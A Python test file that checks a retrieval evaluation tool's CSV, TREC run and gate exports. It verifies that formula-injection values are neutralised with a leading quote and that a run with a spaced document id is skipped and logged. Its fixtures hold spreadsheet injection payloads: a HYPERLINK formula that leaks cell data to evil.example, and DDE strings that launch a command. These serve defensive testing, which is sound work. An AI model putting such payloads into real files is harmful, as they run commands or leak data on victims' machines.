"""``eval --out``'s exports as an attacker would shape them (retrieval/offline/report.py, release.py):

* a question id and a question text that start a formula come out of every CSV (``questions-<config>.csv``,
  ``comparison.csv`` for a config name, ``gate_per_query.csv``) with a single quote in front, exactly;
* a document id holding a space cannot be a TREC run line: that run alone is skipped, named in one line, and
  every other export (report, CSVs, the other runs, the decision record) is written.
"""

from __future__ import annotations

import csv
import io
import json
import logging
from pathlib import Path

import pytest

from helpers.reports import evaluation_report
from retrieval.offline import report as rep
from retrieval.offline.release import ReleaseRule, per_query_csv

QID = '=HYPERLINK("http://evil.example/?leak="&A1)'
TEXT = "@SUM(1+1)*cmd|' /C calc'!A0"
CONFIG = "+cmd|' /C calc'!A0"


def _attacked_report() -> dict:
    report = evaluation_report()
    for cfg in report["configs"].values():
        first = cfg["questions"][0]
        first.update(id=QID, question=TEXT)
    report["comparisons"][0]["lost_relevant"][0]["id"] = QID
    return report


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_a_formula_question_id_and_text_are_neutralised_in_the_question_csv() -> None:
    rows = _rows(rep.question_csv(_attacked_report(), "hybrid"))
    assert rows[0]["id"] == "'" + QID
    assert rows[0]["question"] == "'" + TEXT
    assert rows[1]["id"] == "q2" and rows[1]["question"] == "pergunta q2"  # plain text untouched


def test_a_formula_config_name_is_neutralised_and_negative_deltas_stay_numbers() -> None:
    report = _attacked_report()
    report["configs"] = {"dense": report["configs"]["dense"], CONFIG: report["configs"]["hybrid"]}
    report["comparisons"][0].update(candidate=CONFIG, delta=-0.1234)
    text = rep.comparison_csv(report)
    rows = _rows(text)
    assert {r["config"] for r in rows} == {"dense", "'" + CONFIG}
    attacked = next(r for r in rows if r["config"] == "'" + CONFIG and r["metric"] == "ndcg@2")
    assert attacked["delta"] == "-0.1234"
    assert any(line.split(",")[6] == "-0.1234" for line in text.splitlines())  # written as a number, unquoted


def test_the_gate_per_query_csv_neutralises_the_question_id() -> None:
    report = _attacked_report()
    rows = list(csv.reader(io.StringIO(per_query_csv(report, ReleaseRule.parse("ndcg@2")))))
    assert rows[0] == ["question", "candidate", "baseline_ndcg@2", "ndcg@2", "delta", "lost_relevant"]
    assert rows[1][0] == "'" + QID and rows[1][5] == "d1"
    assert rows[2][0] == "q2"


def test_a_document_id_with_a_space_skips_only_its_run(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    report = _attacked_report()
    report["configs"]["hybrid"]["questions"][1]["ranked"] = ["d 3", "d4"]
    said: list[str] = []
    paths = rep.write_outputs(report, tmp_path / "out", on_skip=said.append)
    names = sorted(p.name for p in paths)
    assert names == ["comparison.csv", "decision.md", "dense.run", "questions-dense.csv", "questions-hybrid.csv",
                     "report.json"]
    assert not (tmp_path / "out" / "hybrid.run").exists()
    assert len(said) == 1 and len(said[0].splitlines()) == 1
    assert said[0].startswith("hybrid.run skipped: TREC run hybrid: the docno 'd 3' holds U+0020 (SPACE)")
    assert json.loads((tmp_path / "out" / "report.json").read_text(encoding="utf-8"))["exports_skipped"] == said
    questions = _rows((tmp_path / "out" / "questions-hybrid.csv").read_text(encoding="utf-8"))
    assert questions[0]["id"] == "'" + QID and questions[1]["final (parents)"] == "d 3 d4"
    # without a callback the line goes to the log (the command line prints it on stderr)
    with caplog.at_level(logging.WARNING, logger="retrieval.offline.report"):
        rep.write_outputs(report, tmp_path / "again")
    assert [r.getMessage() for r in caplog.records] == said


def test_eval_out_writes_every_other_export_and_names_the_skipped_run(tmp_path: Path, monkeypatch,
                                                                     caplog: pytest.LogCaptureFixture) -> None:
    """The command itself: questions read from a file (a formula id and text), the evaluation replaced by the
    fixture's figures for those questions (no models), ``--out`` and ``--gate`` written."""
    from typer.testing import CliRunner

    from retrieval import cli
    from retrieval.cli import evaluate as eval_command
    from retrieval.offline import evaluation

    questions = tmp_path / "questions.jsonl"
    questions.write_text(json.dumps({"id": QID, "question": TEXT, "relevant": ["d1"]}) + "\n"
                         + json.dumps({"id": "q2", "question": "pergunta q2", "relevant": ["d3"]}) + "\n",
                         encoding="utf-8")

    def evaluate(open_bench, settings, qs, configs, ks, split, *args, **kwargs):
        report = evaluation_report()
        for cfg in report["configs"].values():
            for row, q in zip(cfg["questions"], qs):
                row.update(id=q.id, question=q.question)
        report["comparisons"][0]["lost_relevant"][0]["id"] = qs[0].id
        report["configs"]["hybrid"]["questions"][1]["ranked"] = ["d 3", "d4"]  # a document id with a space
        return report

    monkeypatch.setattr(evaluation, "evaluate_configs", evaluate)
    monkeypatch.setattr(eval_command, "adopted", lambda settings, corpus: (settings, None))
    out = tmp_path / "out"
    with caplog.at_level(logging.WARNING, logger="retrieval.offline.report"):
        result = CliRunner().invoke(cli.app, ["eval", "--corpus", str(tmp_path / "corpus.jsonl"), "--questions",
                                              str(questions), "--configs", "dense,hybrid", "--k", "2", "--out",
                                              str(out), "--gate", "ndcg@2,drop=1,lost=5"])
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in out.iterdir()) == [
        "comparison.csv", "decision.md", "dense.run", "gate.xml", "gate_per_query.csv", "questions-dense.csv",
        "questions-hybrid.csv", "report.json"]
    skipped = [r.getMessage() for r in caplog.records if "skipped" in r.getMessage()]
    assert len(skipped) == 1 and skipped[0].startswith("hybrid.run skipped: TREC run hybrid: the docno 'd 3'")
    row = _rows((out / "questions-hybrid.csv").read_text(encoding="utf-8"))[0]
    assert (row["id"], row["question"]) == ("'" + QID, "'" + TEXT)
    gate = list(csv.reader(io.StringIO((out / "gate_per_query.csv").read_text(encoding="utf-8"))))
    assert gate[1][0] == "'" + QID
